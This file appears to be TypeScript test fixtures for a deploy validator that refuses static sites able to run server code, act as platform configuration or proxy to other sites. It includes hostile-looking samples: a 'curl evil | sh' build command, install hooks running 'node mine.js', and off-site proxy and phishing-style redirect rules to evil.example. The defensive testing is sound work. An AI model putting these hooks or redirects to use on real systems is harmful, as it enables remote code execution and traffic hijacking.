// Sites a quick deploy must refuse because they would run server code, be read as platform
// configuration or proxy to other sites in the shared accounts (and ordinary sites it must accept),
// for checkStaticOnly's own tests and for suites that send them through the real REST routes.
import type { DeploymentPlatform } from '@/lib/deployment';

export interface StaticOnlyExample {
  name: string;
  platform: DeploymentPlatform;
  /** A whole site: path → text. */
  files: Record<string, string>;
  /** What the case proves. */
  proves: string;
  /** What the refusal must name: the file, or `_redirects line N`. */
  names: string;
}

const INDEX = { 'index.html': '<!doctype html><h1>Hello</h1>' };
const site = (files: Record<string, string>) => ({ ...INDEX, ...files });

/** Off-site `_redirects` rules, refused on every platform that applies `_redirects` (natively or translated). */
const HOSTILE_REDIRECTS: Omit<StaticOnlyExample, 'platform'>[] = [
  {
    name: 'proxy-200',
    files: site({ _redirects: '/api/* https://evil.example/:splat 200\n' }),
    proves: 'a 200 rewrite to another origin (a proxy) is refused',
    names: '_redirects line 1',
  },
  {
    name: 'proxy-200-forced',
    files: site({ _redirects: '# ok\n/old /new 301\n/* https://evil.example/:splat 200!\n' }),
    proves: 'a forced 200! proxy is refused, naming its line',
    names: '_redirects line 3',
  },
  {
    name: 'proxy-protocol-relative',
    files: site({ _redirects: '/x //evil.example/x 200\n' }),
    proves: 'a protocol-relative //host target is another origin',
    names: '_redirects line 1',
  },
  {
    name: 'redirect-backslash-host',
    files: site({ _redirects: '/x /\\evil.example 301\n' }),
    proves: 'a /\\host target (browsers read it as //host) is another origin',
    names: '_redirects line 1',
  },
  {
    name: 'redirect-307',
    files: site({ _redirects: '/login https://evil.example/login 307\n' }),
    proves: 'a 307 redirect off-site is refused (it carries the method and body)',
    names: '_redirects line 1',
  },
  {
    name: 'redirect-308',
    files: site({ _redirects: '/pay https://evil.example/pay 308\n' }),
    proves: 'a 308 redirect off-site is refused',
    names: '_redirects line 1',
  },
  {
    name: 'redirect-303',
    files: site({ _redirects: '/a https://evil.example/ 303\n' }),
    proves: 'a 303 redirect off-site is refused',
    names: '_redirects line 1',
  },
  {
    name: 'redirect-http',
    files: site({ _redirects: '/a http://evil.example/ 301\n' }),
    proves: 'a 301 to a plain-http address is refused',
    names: '_redirects line 1',
  },
  {
    name: 'redirect-userinfo',
    files: site({ _redirects: '/bank https://bank.example@evil.example/ 302\n' }),
    proves: 'an https URL with user info (reads as another host) is refused',
    names: '_redirects line 1',
  },
  {
    name: 'redirect-javascript',
    files: site({ _redirects: '/x javascript:alert(1) 302\n' }),
    proves: 'a javascript: target is refused',
    names: '_redirects line 1',
  },
  {
    name: 'other-status-off-site',
    files: site({ _redirects: '/* https://evil.example/404 404\n' }),
    proves: 'a 404 answered from another origin is refused',
    names: '_redirects line 1',
  },
  {
    name: 'target-not-a-path',
    files: site({ _redirects: '/x evil.example/page 301\n' }),
    proves: 'a target that is neither a site path nor a URL is refused',
    names: '_redirects line 1',
  },
  {
    name: 'proxy-after-query-match',
    files: site({ _redirects: '/search q=:q https://evil.example/?q=:q 200\n' }),
    proves: 'Netlify query matches before the target do not hide a proxy',
    names: '_redirects line 1',
  },
  {
    name: 'proxy-with-condition',
    files: site({ _redirects: '/* https://evil.example/:splat 200 Country=us\n' }),
    proves: 'a condition after the status does not hide a proxy',
    names: '_redirects line 1',
  },
  {
    name: 'proxy-before-comment',
    files: site({ _redirects: '/a https://evil.example/ 200 # just a test\n' }),
    proves: 'an inline comment does not hide a proxy',
    names: '_redirects line 1',
  },
  {
    name: 'proxy-lenient-status',
    files: site({ _redirects: '/a https://evil.example/ 200x\n' }),
    proves: 'a status Netlify reads leniently (parseInt: 200x is 200) is still a proxy',
    names: '_redirects line 1',
  },
  {
    name: 'proxy-crlf',
    files: site({ _redirects: '/ok /fine 301\r\n/a https://evil.example/ 200\r\n' }),
    proves: 'Windows line endings do not hide a proxy',
    names: '_redirects line 2',
  },
];

const VERCEL: Omit<StaticOnlyExample, 'platform'>[] = [
  {
    name: 'vercel-api-js',
    files: site({ 'api/hello.js': 'export default (req, res) => res.end("hi")' }),
    proves: 'an api/*.js file would run as a serverless function',
    names: 'api/hello.js',
  },
  {
    name: 'vercel-api-python',
    files: site({ 'api/index.py': 'from http.server import BaseHTTPRequestHandler' }),
    proves: 'an api/*.py file would run as a Python function',
    names: 'api/index.py',
  },
  {
    name: 'vercel-api-nested',
    files: site({ 'api/v1/users/[id].ts': 'export function GET() { return new Response("x") }' }),
    proves: 'any depth under api/ is refused',
    names: 'api/v1/users/[id].ts',
  },
  {
    name: 'vercel-api-any-file',
    files: site({ 'api/data.json': '{"a":1}' }),
    proves: 'any file under api/ is refused (Vercel keeps api/ for functions)',
    names: 'api/data.json',
  },
  {
    name: 'vercel-middleware-js',
    files: site({ 'middleware.js': 'export default () => new Response("x")' }),
    proves: 'a root middleware.js would run before every request',
    names: 'middleware.js',
  },
  {
    name: 'vercel-middleware-ts',
    files: site({ 'middleware.ts': 'export default () => new Response("x")' }),
    proves: 'a root middleware.ts would run before every request',
    names: 'middleware.ts',
  },
  {
    name: 'vercel-middleware-mjs',
    files: site({ 'middleware.mjs': 'export default () => {}' }),
    proves: 'any middleware.* at the root is refused',
    names: 'middleware.mjs',
  },
  {
    name: 'vercel-json',
    files: site({ 'vercel.json': '{"rewrites":[{"source":"/(.*)","destination":"https://evil.example/$1"}]}' }),
    proves: 'vercel.json (project configuration) is refused',
    names: 'vercel.json',
  },
  {
    name: 'vercel-now-json',
    files: site({ 'now.json': '{"builds":[{"src":"x.js","use":"@vercel/node"}]}' }),
    proves: 'now.json (the legacy vercel.json) is refused',
    names: 'now.json',
  },
  {
    name: 'vercel-ts-config',
    files: site({ 'vercel.ts': 'export const config = {}' }),
    proves: 'vercel.ts (configuration as code) is refused',
    names: 'vercel.ts',
  },
  { name: 'vercel-toml', files: site({ 'vercel.toml': 'buildCommand = "curl evil | sh"' }), proves: 'vercel.toml is refused', names: 'vercel.toml' },
  {
    name: 'vercel-package-build',
    files: site({ 'package.json': '{"scripts":{"build":"node mine.js"}}' }),
    proves: 'a package.json with a build script is refused',
    names: 'package.json',
  },
  {
    name: 'vercel-package-postinstall',
    files: site({ 'package.json': '{"scripts":{"postinstall":"node mine.js"}}' }),
    proves: 'a package.json with an install hook is refused',
    names: 'package.json',
  },
  {
    name: 'vercel-package-vercel-build',
    files: site({ 'package.json': '{"scripts":{"vercel-build":"node mine.js"}}' }),
    proves: 'a package.json with vercel-build is refused',
    names: 'package.json',
  },
  {
    name: 'vercel-package-unparsable',
    files: site({ 'package.json': '{"scripts": {"build": ' }),
    proves: 'an unparsable package.json is refused',
    names: 'package.json',
  },
  {
    name: 'vercel-package-not-object',
    files: site({ 'package.json': '["build"]' }),
    proves: 'a package.json that is not an object is refused',
    names: 'package.json',
  },
  {
    name: 'vercel-build-output',
    files: site({ '.vercel/output/config.json': '{"version":3}' }),
    proves: 'the Build Output API folder .vercel/output is refused',
    names: '.vercel/output/config.json',
  },
  {
    name: 'vercel-legacy-build-output',
    files: site({ '.vercel_build_output/functions/node/x/index.js': 'module.exports = () => {}' }),
    proves: 'the legacy .vercel_build_output folder is refused',
    names: '.vercel_build_output/functions/node/x/index.js',
  },
];

const NETLIFY: Omit<StaticOnlyExample, 'platform'>[] = [
  {
    name: 'netlify-toml',
    files: site({ 'netlify.toml': '[[redirects]]\nfrom = "/*"\nto = "https://evil.example/:splat"\nstatus = 200\n' }),
    proves: 'netlify.toml (configuration Netlify reads from a deploy) is refused',
    names: 'netlify.toml',
  },
  {
    name: 'netlify-functions',
    files: site({ 'netlify/functions/hello.js': 'export default () => new Response("x")' }),
    proves: 'netlify/functions files are refused',
    names: 'netlify/functions/hello.js',
  },
  {
    name: 'netlify-edge-functions',
    files: site({ 'netlify/edge-functions/geo.ts': 'export default () => new Response("x")' }),
    proves: 'netlify/edge-functions files are refused',
    names: 'netlify/edge-functions/geo.ts',
  },
  {
    name: 'netlify-internal-edge-functions',
    files: site({ '.netlify/internal/edge-functions/manifest.json': '{"bundles":[]}' }),
    proves: 'edge functions uploaded the way the Netlify CLI does (.netlify/internal) are refused',
    names: '.netlify/internal/edge-functions/manifest.json',
  },
];

const CLOUDFLARE: Omit<StaticOnlyExample, 'platform'>[] = [
  {
    name: 'cloudflare-worker-file',
    files: site({ '_worker.js': 'export default { fetch() { return new Response("x") } }' }),
    proves: 'a _worker.js without .assetsignore is refused (wrangler refuses it too)',
    names: '_worker.js',
  },
  {
    name: 'cloudflare-worker-folder',
    files: site({ '_worker.js/index.js': 'export default {}' }),
    proves: 'a _worker.js/ folder is refused',
    names: '_worker.js/index.js',
  },
  {
    name: 'cloudflare-worker-not-ignored',
    files: site({ '_worker.js': 'export default {}', '.assetsignore': '*.map\n' }),
    proves: 'an .assetsignore that does not exclude _worker.js does not make it acceptable',
    names: '_worker.js',
  },
  {
    name: 'cloudflare-worker-reincluded',
    files: site({ '_worker.js': 'export default {}', '.assetsignore': '_worker*\n!_worker.js\n' }),
    proves: 'a negation that re-includes _worker.js is honoured as wrangler does, and refused',
    names: '_worker.js',
  },
  {
    name: 'cloudflare-worker-map',
    files: site({ '_worker.js.map': '{}' }),
    proves: 'any path starting with _worker.js is refused, as wrangler matches it',
    names: '_worker.js.map',
  },
];

export function staticOnlyHostileExamples(): StaticOnlyExample[] {
  const withRedirects: DeploymentPlatform[] = ['netlify', 'cloudflare', 'vercel', 'amplify'];
  return [
    ...withRedirects.flatMap((platform) => HOSTILE_REDIRECTS.map((e) => ({ ...e, name: `${platform}-${e.name}`, platform }))),
    ...VERCEL.map((e) => ({ ...e, platform: 'vercel' as const })),
    ...NETLIFY.map((e) => ({ ...e, platform: 'netlify' as const })),
    ...CLOUDFLARE.map((e) => ({ ...e, platform: 'cloudflare' as const })),
  ];
}

/** Sites a quick deploy accepts unchanged on the platforms named (same-site rules, plain https redirects, look-alike names). */
export function staticOnlyBenignExamples(): Omit<StaticOnlyExample, 'names'>[] {
  const everywhere: DeploymentPlatform[] = ['netlify', 'cloudflare', 'vercel', 'amplify'];
  const redirects = [
    '# same-site rules',
    '/old /new 301',
    '/blog/* /news/:splat 301!',
    '/docs /docs/ 302',
    '/store id=:id /products/:id 301',
    '/app/* /app/index.html 200',
    '/* /index.html 200',
    '/news/* 301',
    '/github https://github.com/huskit 301',
    '/chat https://example.com/chat?from=site 302 Country=us',
    '/shop https://shop.example.com',
    '/team /about#team 301 # anchor, then a comment',
  ].join('\n');
  const sites: Omit<StaticOnlyExample, 'names' | 'platform'>[] = [
    {
      name: 'same-site-redirects',
      files: site({ _redirects: redirects, _headers: '/*\n  X-Frame-Options: DENY\n' }),
      proves: 'same-site rewrites and redirects, and plain 301/302 to https, are accepted',
    },
    {
      name: 'look-alike-names',
      files: site({
        'docs/api/index.html': '<h1>API docs</h1>',
        'apidocs/index.html': '<h1>API</h1>',
        'assets/middleware.js': 'console.log(1)',
        'netlify-logo.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
        'functions/readme.txt': 'not special here',
        'js/_worker.js': 'self.onmessage = () => {}',
        'vercel.json.txt': 'notes',
      }),
      proves: 'files that only look like platform files (not at the root, other names) are accepted',
    },
  ];
  return [
    ...everywhere.flatMap((platform) => sites.map((s) => ({ ...s, name: `${platform}-${s.name}`, platform }))),
    {
      name: 'vercel-package-json-without-build',
      platform: 'vercel',
      files: site({ 'package.json': '{"name":"site","scripts":{"start":"serve .","dev":"vite"},"dependencies":{"react":"19"}}' }),
      proves: 'a package.json without build or install scripts is accepted',
    },
    {
      name: 'cloudflare-worker-ignored',
      platform: 'cloudflare',
      files: site({ '_worker.js': 'export default {}', '_worker.js.map': '{}', '.assetsignore': '_worker.js*\n' }),
      proves: 'a _worker.js that .assetsignore excludes is accepted and left out of the upload',
    },
    {
      name: 'cloudflare-routes-json',
      platform: 'cloudflare',
      files: site({ '_routes.json': '{"version":1,"include":["/*"],"exclude":[]}' }),
      proves: 'a Pages _routes.json is accepted (Workers do not read it)',
    },
    {
      name: 'amplify-build-files',
      platform: 'amplify',
      files: site({ 'amplify.yml': 'version: 1\n', '.amplify-hosting/deploy-manifest.json': '{"version":1}' }),
      proves: 'Amplify build files are accepted: a manual deploy does not build or run them',
    },
  ];
}
